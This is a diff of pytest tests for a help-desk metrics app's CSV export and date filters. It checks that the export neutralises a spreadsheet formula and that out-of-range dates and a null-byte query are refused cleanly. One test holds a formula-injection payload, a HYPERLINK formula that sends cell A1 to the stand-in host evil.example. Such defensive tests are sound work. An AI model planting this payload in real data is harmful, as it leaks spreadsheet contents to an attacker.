@@ -426,3 +426,38 @@ def test_create_api_token_prints_the_token_once_and_keeps_only_its_hash() -> Non
     agent_user(username="maya")
     with pytest.raises(Exception, match="not a supervisor"):
         call_command("create_api_token", "--user", "maya", stdout=io.StringIO())
+
+
+# Hostile input: a spreadsheet formula in the export, and dates no report can hold
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula() -> None:
+    contact(customer='=HYPERLINK("http://evil.example/?x="&A1,"click")', repeated=True)
+    rollups_rebuild_all()
+    rita, _ = supervisor()
+    text = _streamed(rita.get(reverse("desk:metrics_contacts_csv") + "?figure=all&since=30d"))
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["customer"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "until=9999-12-31",
+        "until=0001-01-05",
+        "since=9999-11-15&until=9999-11-16",
+        "since=0001-01-01",
+        "since=9999d",
+        "topic=a%00b",
+    ],
+)
+def test_dates_out_of_range_are_refused_not_a_server_error(query: str) -> None:
+    history(2)
+    rita, user = supervisor()
+    page = rita.get(f"{reverse('desk:metrics')}?{query}")
+    assert page.status_code == 200
+    assert "were not used" in page.content.decode()
+    assert rita.get(_contacts_url("all") + "&" + query).status_code == 200
+    assert rita.get(reverse("desk:metrics_contacts_csv") + "?figure=all&" + query).status_code == 200
+    _, token = personal_token_create(user=user)
+    assert _api(token, "?" + query).status_code == 422
